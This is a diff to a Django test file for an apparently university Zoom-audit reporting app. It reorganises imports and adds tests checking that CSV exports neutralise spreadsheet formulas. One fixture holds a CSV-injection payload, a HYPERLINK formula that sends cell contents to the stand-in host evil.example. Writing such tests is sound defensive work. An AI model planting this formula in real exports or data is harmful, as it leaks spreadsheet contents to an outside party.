@@ -16,22 +16,14 @@ from django.utils import timezone
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from audits.checklist import ITEMS, ITEMS_BY_ID
+from audits.checklist.items import ITEMS, ITEMS_BY_ID, profile_items
 from audits.models import FailingItem, HostState, Snapshot, WeeklyScore, ZoomStatus
-from audits.reports import (
-    PROFILE_ITEMS,
-    by_department,
-    kept_counts,
-    rebuild_tallies,
-    record_state,
-    recount,
-    summary,
-    tallies,
-    week_of,
-)
-from audits.scoring import grade_for
+from audits.reports.readers import by_department, summary, tallies
+from audits.reports.state import kept_counts, rebuild_tallies, record_state, recount, week_of
+from audits.scoring.score import grade_for
 from portal.models import Person
 from tests.people import make_person
+from tests.support import client_for
 
 pytestmark = pytest.mark.django_db
 
@@ -68,12 +60,6 @@ def admin_of(department: str, email: str = "admin@utoronto.ca"):
     return make_person(
         email, department=department, roles=["dept_admin"], admin_departments=[department]
     )
-
-
-def client_for(user) -> Client:
-    client = Client()
-    client.force_login(user)
-    return client
 
 
 def report_url(name: str = "report_department", **params: str) -> str:
@@ -254,6 +240,7 @@ def test_department_names_match_whatever_their_case(physics):
 
 
 def test_profile_items_are_the_fixable_user_settings():
+    PROFILE_ITEMS = [item.id for item in profile_items()]
     assert "meeting.waiting_room.on" in PROFILE_ITEMS
     assert "concern.client.current" not in PROFILE_ITEMS
 
@@ -363,3 +350,36 @@ def test_counters_rebuilt_from_the_states_equal_the_kept_ones(physics):
     assert kept[("physics", "item:" + WAITING_ROOM)] == 2
     assert kept[("physics", "hosts")] == 4
     assert kept[("physics", "score_total")] == 97 + 50 + 30
+
+
+# --- CSV exports ----------------------------------------------------------------------------
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+
+
+@pytest.fixture
+def formula_host(db):
+    host = make_person("+1-formula@utoronto.ca", first_name=FORMULA, last_name="")
+    synced(host, 40, failing=[WAITING_ROOM])
+    return host
+
+
+def _csv_rows(response) -> list[dict[str, str]]:
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    return list(csv.DictReader(io.StringIO(body.decode())))
+
+
+def test_host_csv_neutralises_cells_that_a_spreadsheet_would_run_as_formulas(formula_host):
+    response = client_for(admin_of("Physics")).get(report_url("report_csv"))
+
+    (row,) = [row for row in _csv_rows(response) if row["name"].endswith(FORMULA)]
+    assert row["name"] == "'" + FORMULA
+    assert row["email"] == "'+1-formula@utoronto.ca"
+    assert row["score"] == "40"  # numbers stay numbers
+
+
+def test_action_plan_csv_neutralises_formulas_too(formula_host):
+    response = client_for(admin_of("Physics")).get(report_url("report_action_plan"))
+
+    rows = _csv_rows(response)
+    assert "'+1-formula@utoronto.ca" in {row["email"] for row in rows}
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
